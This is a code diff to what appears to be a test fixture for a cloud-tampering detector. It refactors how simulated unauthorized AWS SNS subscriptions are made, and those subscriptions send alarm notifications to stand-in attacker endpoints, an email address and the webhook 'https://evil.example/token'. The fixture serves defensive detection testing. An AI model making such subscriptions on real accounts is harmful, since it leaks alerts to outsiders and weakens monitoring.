@@ -59,7 +59,7 @@ const subscribe = async (
   { sns }: Clouds,
   { topicArn: TopicArn }: Places,
   Protocol: string,
-  Endpoint: string,
+  { Endpoint }: { readonly Endpoint: string },
 ) => await sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint }));
 const unsubscribe = async ({ sns }: Clouds, { topicArn: TopicArn }: Places, endpoint: string) => {
   const { Subscriptions = [] } = await sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }));
@@ -75,14 +75,16 @@ export const additions: readonly Addition[] = [
   {
     name: "another email address is subscribed to the alarms",
     by: "aws sns subscribe --protocol email",
-    add: async (clouds, places) => await subscribe(clouds, places, "email", "somebody@evil.example"),
+    add: async (clouds, places) =>
+      await subscribe(clouds, places, "email", { Endpoint: "somebody@evil.example" }),
     remove: async (clouds, places) => await unsubscribe(clouds, places, "somebody@evil.example"),
     reports: "opens    topic subscription email somebody@evil.example: added: of account",
   },
   {
     name: "a webhook is subscribed to the alarms",
     by: "aws sns subscribe --protocol https",
-    add: async (clouds, places) => await subscribe(clouds, places, "https", "https://evil.example/token"),
+    add: async (clouds, places) =>
+      await subscribe(clouds, places, "https", { Endpoint: "https://evil.example/token" }),
     remove: async (clouds, places) => await unsubscribe(clouds, places, "https://evil.example/token"),
     reports: "opens    topic subscription https https://evil.example/ ",
   },
